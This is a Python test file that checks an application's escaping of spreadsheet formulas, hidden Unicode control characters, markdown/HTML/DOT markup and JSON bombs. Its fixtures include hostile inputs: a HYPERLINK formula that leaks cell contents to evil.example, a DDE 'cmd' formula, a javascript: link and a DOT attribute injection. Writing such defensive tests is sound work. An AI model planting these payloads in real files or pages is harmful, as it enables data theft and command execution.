"""
What an attacker writes where others read: formulas in tables, letters that steer terminals and eyes,
JSON that would take a reader down. How pages draw it is in `dashboard/test_injection_pages`.
"""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import time
from datetime import UTC, datetime

import pytest

from interlock.core.cli import printing
from interlock.core.cli.values import read_json
from interlock.core.errors import InterlockError
from interlock.core.model import batch_cells, batch_files, json_texts
from interlock.core.model.audit_chain import read_heads
from interlock.core.model.audit_files import write_csv as write_audit
from interlock.core.model.audit_lists import AuditEntry
from interlock.core.model.launch_batches import BatchRun, escape_formula
from interlock.core.model.launch_batches import write_csv as write_batch
from interlock.core.model.payloads import read_interrupt
from interlock.core.model.runs import FailureLine, RunStatus
from interlock.core.model.texts import one_line, show, show_hidden
from interlock.core.services import transfer_files
from interlock.core.store import encoding
from interlock.core.store.searching import split, texts_of
from interlock.dashboard.http.api.pages import read_place
from interlock.dashboard.http.live import _read_topics
from interlock.dashboard.views.escaping import dot_escape, html_escape, md_escape
from interlock.dashboard.views.forms import parse_json
from interlock.dashboard.views.sheets import Sheet, to_csv

AT = datetime(2026, 5, 4, tzinfo=UTC)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '=HYPERLINK("http://evil.example?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
]
# Letters that hide, reverse, break lines or steer, each on its own.
HIDDEN = [
    *map(chr, range(32)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b\u200e\u200f\u2028\u2029",
    *"\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\u3164\ufeff\uffa0",
    "\U000e0041",
    "\U000e0100",
]
BOMBS = {
    "deep lists": "[" * 100_000,
    "deep objects": '{"a":' * 100_000,
    "closed deep lists": "[" * 50_000 + "]" * 50_000,
    "a long number": "9" * 100_000,
    "a long negative number": "-" + "9" * 100_000,
    "no number": "NaN",
    "infinity": "[1e400, Infinity]",
    "a key twice": '{"a": 1, "a": 2}',
    "half of a text": '"\\ud800',
    "nothing": "",
    "two values": "1 2",
}


def read_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_table_holds_a_cell_that_a_spreadsheet_would_run(formula: str) -> None:
    entry = AuditEntry(
        seq=1,
        at=AT,
        actor=formula,
        action=formula,
        object=formula,
        before=formula,
        after={formula: formula},
        reason=formula,
        previous_hash="0",
        hash="1",
    )
    run = BatchRun(
        run_id=formula,
        started_run_id=formula,
        thread_id=formula,
        status=RunStatus.FAILED,
        variant=formula,
        input=formula,
        error=FailureLine(formula, formula),
    )
    sheet = Sheet.of("x", [{formula: formula, "n": -1, "f": -1.5, "none": None}])
    tables = ["".join(write_audit([entry])), write_batch([run]), to_csv(sheet)]
    for rows in map(read_rows, tables):
        for cell in (cell for row in rows for cell in row if cell):
            assert cell in {"-1", "-1.5"} or escape_formula(cell) == cell, cell
            assert not cell.lstrip("\ufeff\u200b \x00\u00a0").startswith(("=", "+", "@"))


def test_what_is_no_formula_stays_as_it_is() -> None:
    for cell in ("", "a=1", "ann@example.com", "5-1", "1.5", "(x)", "'=1"):
        assert escape_formula(cell) == cell


@pytest.mark.parametrize("letter", HIDDEN)
def test_a_letter_that_hides_or_steers_is_seen_everywhere(
    letter: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = f"pay{letter}100"
    shown = [md_escape(text), dot_escape(text), html_escape(text), show_hidden(text)]
    shown += [one_line(text), show(text), printing.printable(text)]
    kept = {"\n": 5, "\t": 5, "\r": 5}.get(letter, 0)  # what writes several lines keeps these
    assert sum(letter in each for each in shown) <= kept, shown
    printing.print_table(["a"], [[text]], empty="", whole=["a"])
    printing.print_fields({"a": text})
    assert letter == "\n" or letter not in capsys.readouterr().out


def test_texts_go_into_labels_drawings_and_charts_as_letters() -> None:
    text = "<b>x</b> [l](javascript:alert(1)) ![i](//e) $x$ :red[y] `c` \\ | # _a_ ~b~ www.e.com"
    escaped = md_escape(text)
    assert all(
        escaped[at - 1] == "\\" for at, letter in enumerate(escaped) if letter in "<>[]()!$:`|#_~"
    )
    assert "www." not in escaped
    assert "<" not in html_escape(text)
    assert dot_escape('"]; x [URL="//e"') == '\\"]; x [URL=\\"//e\\"'


@pytest.mark.parametrize("name", BOMBS)
def test_a_json_bomb_is_refused_at_every_reader(name: str) -> None:
    bomb = BOMBS[name]
    began = time.process_time()
    with pytest.raises((ValueError, RecursionError)):
        found = json_texts.loads(bomb)
        encoding.dump_json(found)
        raise AssertionError(found)
    if bomb:
        with pytest.raises(InterlockError) as refused:
            encoding.dump_json(read_json("--input", bomb))
        assert len(str(refused.value)) < 1000
    assert time.process_time() - began < 20


DOORS = {
    "the forms of the pages": parse_json,
    "what a tab asks of the live socket": _read_topics,
    "what an agent asks in a text": lambda bomb: read_interrupt(bomb, None, node="n"),
    "the heads of the audit": lambda bomb: read_heads([bomb], database="x") or None,
    "a cursor of the API": lambda bomb: read_place(
        base64.b64encode(bomb.encode(), altchars=b"-_").decode(), which=["x"], reads=[str]
    ),
    "the file of a thread": lambda bomb: transfer_files.read_head(gzip.compress(bomb.encode())),
    "a cell of a batch": batch_cells.read_json,
}


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("name", [name for name, bomb in BOMBS.items() if bomb])
def test_a_json_bomb_is_refused_at_every_door(door: str, name: str) -> None:
    """Or, where an agent's text may be anything, taken for a text."""
    told = ""
    try:
        found = DOORS[door](BOMBS[name])
    except (ValueError, InterlockError) as exc:
        found, told = None, str(exc)
    assert found is None or door == "what an agent asks in a text", found
    assert len(told) < 1000
    assert "sys." not in told


def test_a_batch_of_bombs_is_told_line_by_line() -> None:
    lines = [bomb for bomb in BOMBS.values() if bomb]
    data = "\n".join([*lines, '{"fine": 1}']).encode()
    found = batch_files.read(data, name="x.jsonl", schema=None, max_rows=100, max_bytes=10**7)
    told = [row for row in found.rows if row.problems]
    assert len(told) >= len(lines) - 1
    assert all(len(str(problem)) < 1000 for row in told for problem in row.problems)


def test_wide_deep_and_long_values_are_kept_or_refused_by_name() -> None:
    wide = {f"k{n}": n for n in range(50_000)}
    assert json.loads(encoding.dump_json(wide)) == wide
    deep: object = 1
    for _ in range(250):
        deep = [deep]
    for value in (deep, {"a": 10**5000}, float("nan"), {1: {2: object()}}):
        with pytest.raises(InterlockError) as refused:
            encoding.dump_json(value)
        assert len(str(refused.value)) < 500


def test_very_long_texts_are_cut_where_they_are_shown_and_looked_through() -> None:
    long = "x" * 5_000_000 + "\u202e"
    began = time.process_time()
    assert len(one_line(long)) <= 120
    assert len(show(long)) <= 60
    assert len(texts_of({"a": long, "b": [long]})) <= 2_000
    assert max(map(len, split(long)), default=0) <= 100
    assert time.process_time() - began < 10


def test_nul_and_half_pairs_are_replaced_in_observed_texts() -> None:
    assert "\0" not in encoding.storable_text("a\0b")
    encoding.storable_text("\ud800").encode()
    assert len(encoding.storable_text("x" * 500, length=300)) == 300
